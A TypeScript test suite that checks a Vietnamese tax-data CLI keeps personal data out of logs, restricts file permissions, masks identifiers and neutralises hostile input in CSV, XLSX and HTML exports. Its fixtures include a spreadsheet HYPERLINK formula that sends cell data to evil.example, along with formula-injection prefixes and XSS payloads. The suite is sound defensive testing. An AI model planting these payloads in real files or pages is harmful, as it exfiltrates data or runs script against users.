/**
 * Personal data and safe outputs, end to end through the CLI on a small generated world whose
 * registry names carry spreadsheet formulas and HTML:
 * - no identifier or name of the world in stdout / stderr / logs, also when a run fails;
 * - everything the workspace creates is owner-only;
 * - `--mask-pii` leaves no raw phone, national id, tax code or account in any case export;
 * - formula text is neutralised in cases.csv / cases.xlsx; report.html carries injected HTML
 *   only as escaped JSON data.
 */
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditPath, readAudit } from '../../engine/warehouse/audit.js';
import { openDb } from '../../engine/warehouse/db.js';
import { literal } from '../../engine/warehouse/db.js';
import { parseCsv, readCsv } from '../generate/read-csv.js';
import { tempDir } from '../helpers.js';
import { copyTree, lastLine, makeWorld, sangloc, treeModes } from './cli.js';
import { findPii, worldPii, type WorldPii } from './world-pii.js';
import { readZip, xlsxXml } from './zip.js';

/** Text a hostile or careless delivery could put in a name or an address. */
const formulas = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
  '+1 Nguyễn Văn Công',
  '-2+3 Trần Thị Bình',
  '@SUM(A1:A9) Lê Văn Đạt',
];
const markup = ['<script>alert(1)</script> Phạm Minh Tú', '"><img src=x onerror=alert(1)> Đỗ Thu Hà'];
const payloads = [...formulas, ...markup];

const csvField = (v: string) => `"${v.replaceAll('"', '""')}"`;

/** Rewrites a CSV of the world, changing some records; keeps every other byte of meaning. */
function rewriteCsv(path: string, change: (r: Record<string, string>, i: number) => void): void {
  const { header, records } = readCsv(path);
  records.forEach(change);
  writeFileSync(
    path,
    [header.join(','), ...records.map((r) => header.map((h) => csvField(r[h] ?? '')).join(','))].join('\n') + '\n',
  );
}

describe('personal data and safe outputs', () => {
  const root = tempDir('sangloc-outputs-');
  const world = join(root, 'world');
  const ws = join(root, 'ws');
  const wsMasked = join(root, 'ws-masked');
  let pii: WorldPii;
  let run: ReturnType<typeof sangloc>;
  let masked: ReturnType<typeof sangloc>;
  const injected = new Map<string, string>(); // tax_id → payload

  beforeAll(async () => {
    await makeWorld(world, 150, 21);
    // Names and addresses of the registry (the case list shows the registry's name first) and of
    // some platform shops and parcels carry formulas and markup.
    rewriteCsv(join(world, 'taxpayers.csv'), (r, i) => {
      if (i % 3 !== 0) return;
      const p = payloads[(i / 3) % payloads.length]!;
      r.name = p;
      r.address = `${p}, Phường 3, TP. Hồ Chí Minh`;
      injected.set(r.tax_id!, p);
    });
    rewriteCsv(join(world, 'platform_sellers.csv'), (r, i) => {
      if (i % 11 !== 0) return;
      r.shop_name = payloads[i % payloads.length]!;
      r.address = payloads[(i + 1) % payloads.length]!;
    });
    pii = worldPii(world);
    run = sangloc(['run', '--input', world, '--workspace', ws]);
    expect(run.status, run.stderr).toBe(0);
    masked = sangloc(['run', '--input', world, '--workspace', wsMasked, '--mask-pii', '--quiet']);
    expect(masked.status, masked.stderr).toBe(0);
  }, 300_000);

  it('the world has the personal data the scans look for', () => {
    expect(pii.counts.phone).toBeGreaterThan(50);
    expect(pii.counts.national_id).toBeGreaterThan(50);
    expect(pii.counts.tax_id).toBeGreaterThan(20);
    expect(pii.counts.account).toBeGreaterThan(50);
    expect(pii.counts.name).toBeGreaterThan(100);
    // The scanner finds what it should: the published case list names people and shows phones.
    expect(findPii(readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8'), pii).length).toBeGreaterThan(100);
  });

  describe('no personal data in what a run prints or logs', () => {
    const logsOf = (dir: string) =>
      existsSync(dir)
        ? readdirSync(dir, { recursive: true, encoding: 'utf8' })
            .filter((f) => f.endsWith('.log'))
            .map((f) => readFileSync(join(dir, f), 'utf8'))
            .join('\n')
        : '';

    it('a successful run: stderr, stdout and any log file in the workspace', () => {
      expect(run.stderr).toMatch(/\[publish\]/);
      expect(findPii(run.stderr, pii)).toEqual([]);
      expect(findPii(run.stdout, pii)).toEqual([]);
      expect(findPii(logsOf(ws), pii)).toEqual([]);
    });

    it.each([
      {
        name: 'a bad config',
        setup: (dir: string) => {
          writeFileSync(join(dir, 'bad.json'), JSON.stringify({ memoryLimit: 'lots', threads: 0, seed: 'x' }));
          return ['--input', world, '--config', join(dir, 'bad.json')];
        },
        message: /config problem/,
      },
      {
        name: 'files that cannot be used (UTF-16, binary with records inside, no returns)',
        setup: (dir: string) => {
          const d = join(dir, 'broken');
          mkdirSync(d);
          const taxpayers = readFileSync(join(world, 'taxpayers.csv'), 'utf8');
          writeFileSync(
            join(d, 'taxpayers.csv'),
            Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(taxpayers, 'utf16le')]),
          );
          const sellers = readFileSync(join(world, 'platform_sellers.csv'));
          writeFileSync(
            join(d, 'platform_sellers.csv'),
            Buffer.concat([
              sellers.subarray(0, 4000),
              Buffer.from([0, 0xc3, 0x28, 0xff, 0xfe, 0]),
              sellers.subarray(4000, 9000),
            ]),
          );
          writeFileSync(
            join(d, 'cod_shipments_ghn.csv'),
            readFileSync(join(world, 'cod_shipments_ghn.csv'), 'utf8').replaceAll(',', '","').slice(0, 5000),
          );
          return ['--input', d];
        },
        // The registry cannot be read: a source the scores need, so the run stops after the load and keeps its diagnostics.
        message:
          /could not be loaded, so nothing was published: taxpayers\.csv \(.*UTF-16.* — rejects and diagnostics kept in .*\/failed\//,
      },
      {
        name: 'a file that vanished while the delivery was read (dangling link)',
        setup: (dir: string) => {
          const d = join(dir, 'vanished');
          copyTree(world, d);
          symlinkSync(join(dir, 'nowhere.csv'), join(d, 'websites_extra.csv'));
          return ['--input', d];
        },
        message: /websites_extra\.csv/,
      },
    ])('a failing run: $name', ({ name, setup, message }) => {
      const dir = join(root, `fail-${name.length}`);
      mkdirSync(dir);
      const wsFail = join(dir, 'ws');
      const r = sangloc(['run', '--workspace', wsFail, ...setup(dir)]);
      expect(r.status).not.toBe(0);
      expect(lastLine(r.stderr)).toMatch(message);
      expect(findPii(r.stderr, pii)).toEqual([]);
      expect(findPii(r.stdout, pii)).toEqual([]);
      expect(findPii(logsOf(wsFail), pii)).toEqual([]);
      for (const e of existsSync(wsFail) ? treeModes(wsFail) : [])
        if (e.kind !== 'link') expect(e.mode & 0o077, e.path).toBe(0);
      // A run that got as far as its own id leaves a run_failed line (a bad config fails before).
      if (existsSync(auditPath(wsFail))) expect(readAudit(wsFail).map((e) => e.action)).toEqual(['run_failed']);
    });
  });

  it('WS/audit.log records the run with its row counts, owner-only, without personal data', () => {
    const events = readAudit(ws);
    const runs = events.filter((e) => e.action === 'run');
    expect(runs).toHaveLength(1);
    const casesCsv = readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8');
    expect(runs[0]).toMatchObject({
      run_id: readlinkSync(join(ws, 'latest')).split('/').pop(),
      pid: expect.any(Number),
      user: expect.any(String),
    });
    expect(runs[0]!.rows.cases).toBe(casesCsv.trim().split('\n').length - 1);
    expect(runs[0]!.rows.members).toBe(
      readFileSync(join(ws, 'latest', 'members.csv'), 'utf8')
        .trim()
        .split('\n').length - 1,
    );
    expect(runs[0]!.rows).toHaveProperty('rejects');
    expect(statSync(auditPath(ws)).mode & 0o777).toBe(0o600);
    expect(findPii(readFileSync(auditPath(ws), 'utf8'), pii)).toEqual([]);
  });

  it('every file and folder the workspace holds is owner-only', () => {
    for (const dir of [ws, wsMasked]) {
      const entries = treeModes(dir);
      expect(entries.filter((e) => e.kind === 'file').length).toBeGreaterThanOrEqual(9);
      for (const e of entries) if (e.kind !== 'link') expect(e.mode & 0o077, `${e.path} ${e.mode.toString(8)}`).toBe(0);
    }
  });

  describe('--mask-pii: no raw phone, national id, tax code or account in any case export', () => {
    /** The text of one export, every value included (xlsx: cells and raw XML; parquet: every row). */
    const exportText: Record<string, (dir: string) => Promise<string>> = {
      'cases.csv': async (dir) => readFileSync(join(dir, 'cases.csv'), 'utf8'),
      'cases.json': async (dir) => readFileSync(join(dir, 'cases.json'), 'utf8'),
      'report.html': async (dir) => readFileSync(join(dir, 'report.html'), 'utf8'),
      'cases.xlsx': async (dir) => {
        const book = new ExcelJS.Workbook();
        await book.xlsx.readFile(join(dir, 'cases.xlsx'));
        const cells: string[] = [];
        book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => cells.push(String(c.text ?? c.value)))));
        // The raw parts too (sheets, shared strings if any): nothing hides outside the cell values.
        return cells.join('\n') + '\n' + xlsxXml(join(dir, 'cases.xlsx'));
      },
      'cases.parquet': async (dir) => {
        const db = await openDb(':memory:');
        try {
          const rows = await db.all(`select * from read_parquet(${literal(join(dir, 'cases.parquet'))})`);
          return rows.map((r) => JSON.stringify(r)).join('\n');
        } finally {
          db.close();
        }
      },
    };

    it.each(Object.keys(exportText))('%s', async (file) => {
      const plain = findPii(await exportText[file]!(join(ws, 'latest')), pii, { numbersOnly: true });
      expect(plain.length, 'the unmasked export shows identifiers (the check is not vacuous)').toBeGreaterThan(100);
      const text = await exportText[file]!(join(wsMasked, 'latest'));
      expect(text).toMatch(/\d{4}\*{3}\d{3}/); // a masked phone or tax code
      expect(findPii(text, pii, { numbersOnly: true })).toEqual([]);
    });

    it('the xlsx reader sees the parts it scans', () => {
      expect(
        [...readZip(join(wsMasked, 'latest', 'cases.xlsx')).keys()].some((n) => n.startsWith('xl/worksheets/')),
      ).toBe(true);
    });
  });

  describe('safe outputs', () => {
    const casesOf = () => {
      const [header, ...rows] = parseCsv(
        readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8')
          .replace(/^\ufeff/, '')
          .replace(/\r\n/g, '\n'),
      );
      return rows
        .filter((r) => r.length === header!.length)
        .map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    };

    it('formula text in names reaches cases.csv neutralised (a leading apostrophe), never live', () => {
      const cases = casesOf();
      const names = cases.map((c) => c.name!);
      for (const f of formulas) {
        const hit = names.filter((n) => n.toLowerCase().includes(f.slice(1).toLowerCase()));
        expect(hit.length, f).toBeGreaterThan(0);
        for (const n of hit) expect(n.startsWith("'"), n).toBe(true);
      }
      for (const c of cases)
        for (const [col, v] of Object.entries(c))
          expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(v), `${col}: ${v}`).toBe(false);
    });

    it('cases.xlsx holds no formula cell and the injected names as neutralised text', async () => {
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(join(ws, 'latest', 'cases.xlsx'));
      let formulaCells = 0;
      const texts: string[] = [];
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((c) => {
            if (c.type === ExcelJS.ValueType.Formula || c.formula) formulaCells++;
            if (typeof c.value === 'string') texts.push(c.value);
          }),
        ),
      );
      expect(formulaCells).toBe(0);
      for (const f of formulas) {
        const hit = texts.filter((t) => t.toLowerCase().includes(f.slice(1).toLowerCase()));
        expect(hit.length, f).toBeGreaterThan(0);
        for (const t of hit) expect(/^[=+\-@]/.test(t), t).toBe(false);
      }
      expect(xlsxXml(join(ws, 'latest', 'cases.xlsx'))).not.toMatch(/<f[\s>]/);
    });

    it('report.html: injected markup only inside the JSON data block, which parses back to the names', () => {
      const html = readFileSync(join(ws, 'latest', 'report.html'), 'utf8');
      const m = /<script type="application\/json" id="sangloc-data">([\s\S]*?)<\/script>/.exec(html);
      expect(m).not.toBeNull();
      const outside = html.replace(m![0], '');
      expect(outside).not.toMatch(/<script>alert|<img|onerror|alert\(1\)/i);
      // Exactly two script elements: the data block and the page's own script.
      expect(html.match(/<script\b/g)).toHaveLength(2);
      expect(m![1]).not.toMatch(/[<>]/);
      const data = JSON.stringify(JSON.parse(m![1]!));
      const cases = JSON.parse(readFileSync(join(ws, 'latest', 'cases.json'), 'utf8')) as { name: string | null }[];
      const hostile = cases.map((c) => c.name ?? '').filter((n) => /<script>|<img/i.test(n));
      expect(hostile.length).toBeGreaterThanOrEqual(markup.length);
      // The page embeds the work list (the first rows of the ranking); every hostile name on it is in the data.
      const onList = (JSON.parse(m![1]!) as { total_cases: number }).total_cases;
      for (const n of cases
        .slice(0, onList)
        .map((c) => c.name ?? '')
        .filter((x) => hostile.includes(x)))
        expect(data).toContain(JSON.stringify(n).slice(1, -1));
      for (const p of markup) {
        const tag = p.slice(0, p.lastIndexOf('>') + 1).toLowerCase();
        expect(
          hostile.some((n) => n.toLowerCase().includes(tag)),
          `${p} in ${JSON.stringify(hostile)}`,
        ).toBe(true);
      }
    });
  });
});
